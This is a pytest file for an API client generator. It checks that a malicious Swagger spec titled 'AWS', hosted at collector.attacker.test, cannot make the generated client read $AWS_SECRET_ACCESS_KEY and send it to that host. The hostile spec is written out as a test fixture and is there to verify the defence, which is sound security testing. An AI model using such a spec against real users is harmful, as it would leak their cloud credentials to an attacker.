"""Which environment variables a generated client reads is the maintainer's choice, never the document's.

The attack: a document titled ``AWS`` with an apiKey scheme named ``secret_access_key`` made the
generated ``AWS()`` read ``$AWS_SECRET_ACCESS_KEY`` and send it to the document's host. Each
client below is generated, imported and called through ``httpx.MockTransport``, so what it sends
is what a real server would receive.
"""

from __future__ import annotations

import base64
import contextlib
import importlib
import sys
from pathlib import Path
from types import ModuleType
from typing import Any, Iterator

import httpx
import pytest

from generator.diagnostics import Severity
from generator.generate import Generation, generate
from generator.target import Target

SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY"

AWS_DOCUMENT = """\
swagger: "2.0"
info: {title: AWS, version: "1"}
host: collector.attacker.test
schemes: [https]
securityDefinitions:
  secret_access_key: {type: apiKey, in: header, name: X-Api-Key}
security: [{secret_access_key: []}]
paths:
  /items:
    get:
      operationId: listItems
      responses: {"200": {description: ok}}
"""

# One operation per kind of scheme, so each request shows exactly one credential.
EVERY_KIND_DOCUMENT = """\
swagger: "2.0"
info: {title: My API, version: "1"}
host: api.example.test
schemes: [https]
securityDefinitions:
  basic: {type: basic}
  secret_access_key: {type: apiKey, in: header, name: X-Api-Key}
  oauth: {type: oauth2, flow: implicit, authorizationUrl: "https://auth.example.test/authorize", scopes: {}}
paths:
  /basic:
    get: {operationId: withBasic, security: [{basic: []}], responses: {"200": {description: ok}}}
  /key:
    get: {operationId: withKey, security: [{secret_access_key: []}], responses: {"200": {description: ok}}}
  /token:
    get: {operationId: withToken, security: [{oauth: []}], responses: {"200": {description: ok}}}
"""

TWO_KEYS_DOCUMENT = """\
swagger: "2.0"
info: {title: My API, version: "1"}
host: api.example.test
schemes: [https]
securityDefinitions:
  secret_access_key: {type: apiKey, in: header, name: X-Secret}
  session: {type: apiKey, in: query, name: sid}
paths:
  /both:
    get:
      operationId: withBoth
      security: [{secret_access_key: [], session: []}]
      responses: {"200": {description: ok}}
"""


def _generate(write: Any, tmp_path: Path, document: str, **names: str) -> tuple[Generation, Path]:
    spec = write("api.yaml", document)
    output = tmp_path / "out"
    generation, _ = generate(Target(spec=spec, output=output, **names))
    assert generation.files is not None, [d.render() for d in generation.diagnostics]
    return generation, output


@contextlib.contextmanager
def _imported(output: Path, package: str) -> Iterator[ModuleType]:
    """The freshly generated package, forgotten afterwards so another test may generate its namesake."""
    sys.path.insert(0, str(output))
    importlib.invalidate_caches()
    try:
        yield importlib.import_module(package)
    finally:
        sys.path.remove(str(output))
        for name in [n for n in sys.modules if n == package or n.startswith(package + ".")]:
            del sys.modules[name]


class _Server:
    """A MockTransport handler that keeps every request it is sent."""

    def __init__(self) -> None:
        self.requests: list[httpx.Request] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        return httpx.Response(200, json={})

    def transport(self) -> httpx.MockTransport:
        return httpx.MockTransport(self)


def _everything_sent(request: httpx.Request) -> str:
    headers = "\n".join(f"{name}: {value}" for name, value in request.headers.multi_items())
    return f"{request.url}\n{headers}\n{request.content.decode(errors='replace')}"


def _env_unset(generation: Generation) -> list[Any]:
    return [d for d in generation.diagnostics if d.code == "env-unset"]


def test_a_document_titled_aws_cannot_make_the_client_read_aws_secrets(
    write: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    generation, output = _generate(
        write, tmp_path, AWS_DOCUMENT
    )  # no env-prefix: as the attacker wished
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("AWS_API_KEY", SECRET)
    monkeypatch.setenv("AWS_BASE_URL", "https://elsewhere.test")
    server = _Server()
    with _imported(output, "aws_client") as aws:
        aws.AWS(transport=server.transport()).default.list_items()
        aws.AWS(secret_access_key="given", transport=server.transport()).default.list_items()
    without, given = server.requests
    assert all(SECRET not in _everything_sent(request) for request in server.requests)
    assert "X-Api-Key" not in without.headers  # no argument: no credential at all
    assert given.headers["X-Api-Key"] == "given"  # the argument still works
    assert {r.url.host for r in server.requests} == {
        "collector.attacker.test"
    }  # $AWS_BASE_URL unread
    assert _env_unset(generation), "the maintainer is told the client reads no environment variable"


def test_without_an_env_prefix_the_package_never_looks_at_the_environment(
    write: Any, tmp_path: Path
) -> None:
    _, output = _generate(write, tmp_path, EVERY_KIND_DOCUMENT, package="quiet_client")
    package = output / "quiet_client"
    readers = [
        str(path.relative_to(package))
        for path in sorted(package.rglob("*.py"))
        if any(call in path.read_text("utf-8") for call in ("os.environ", "getenv", "environb"))
    ]
    assert readers == []
    readme = (output / "README.md").read_text("utf-8")
    assert "MY_API_" not in readme and "environment variable |" not in readme
    assert "reads no environment variable" in readme


def test_the_missing_env_prefix_is_reported_with_a_hint(
    write: Any, tmp_path: Path, cli: Any
) -> None:
    generation, _ = _generate(write, tmp_path, AWS_DOCUMENT)
    (note,) = _env_unset(generation)
    assert note.severity is Severity.INFO and "--env-prefix" in note.hint
    result = cli("generate", tmp_path / "api.yaml", "-o", tmp_path / "cli", "--verbose")
    assert result.code == 0 and "info[env-unset]" in result.err, result.err
    given = cli(
        "generate",
        tmp_path / "api.yaml",
        "-o",
        tmp_path / "cli",
        "--verbose",
        "--env-prefix",
        "AWS",
    )
    assert given.code == 0 and "env-unset" not in given.err, given.err


def test_with_a_prefix_the_client_reads_the_prefix_and_a_word_for_each_kind(
    write: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    generation, output = _generate(
        write,
        tmp_path,
        EVERY_KIND_DOCUMENT,
        package="myapi_client",
        client_class="MyApi",
        env_prefix="MYAPI",
    )
    assert not _env_unset(generation)
    for variable, value in {
        "MYAPI_USERNAME": "env-user",
        "MYAPI_PASSWORD": "env-pass",
        "MYAPI_API_KEY": "env-key",
        "MYAPI_ACCESS_TOKEN": "env-token",
        "MYAPI_BASE_URL": "https://configured.test/v9",
        "MYAPI_SECRET_ACCESS_KEY": SECRET,
    }.items():  # the last is named by the document
        monkeypatch.setenv(variable, value)
    server = _Server()
    with _imported(output, "myapi_client") as myapi:
        made = myapi.MyApi(transport=server.transport())
        made.default.with_basic()
        made.default.with_key()
        made.default.with_token()
    basic, key, token = server.requests
    assert {str(r.url) for r in server.requests} == {
        f"https://configured.test/v9/{path}" for path in ("basic", "key", "token")
    }
    assert (
        basic.headers["Authorization"] == "Basic " + base64.b64encode(b"env-user:env-pass").decode()
    )  # RFC 7617
    assert key.headers["X-Api-Key"] == "env-key"
    assert token.headers["Authorization"] == "Bearer env-token"  # RFC 6750
    assert all(SECRET not in _everything_sent(request) for request in server.requests)
    readme = (output / "README.md").read_text("utf-8")
    for variable in (
        "MYAPI_USERNAME",
        "MYAPI_PASSWORD",
        "MYAPI_API_KEY",
        "MYAPI_ACCESS_TOKEN",
        "MYAPI_BASE_URL",
    ):
        assert f"`{variable}`" in readme
    assert "MYAPI_SECRET_ACCESS_KEY" not in readme


def test_several_api_keys_each_read_the_kind_word_then_their_argument(
    write: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, output = _generate(
        write,
        tmp_path,
        TWO_KEYS_DOCUMENT,
        package="twokeys_client",
        client_class="TwoKeys",
        env_prefix="MYAPI",
    )
    monkeypatch.setenv("MYAPI_API_KEY_SECRET_ACCESS_KEY", "env-secret")
    monkeypatch.setenv("MYAPI_API_KEY_SESSION_KEY", "env-session")
    monkeypatch.setenv("MYAPI_SECRET_ACCESS_KEY", SECRET)  # named by the document alone: never read
    server = _Server()
    with _imported(output, "twokeys_client") as twokeys:
        twokeys.TwoKeys(transport=server.transport()).default.with_both()
    (request,) = server.requests
    assert request.headers["X-Secret"] == "env-secret"
    assert request.url.params["sid"] == "env-session"
    assert SECRET not in _everything_sent(request)
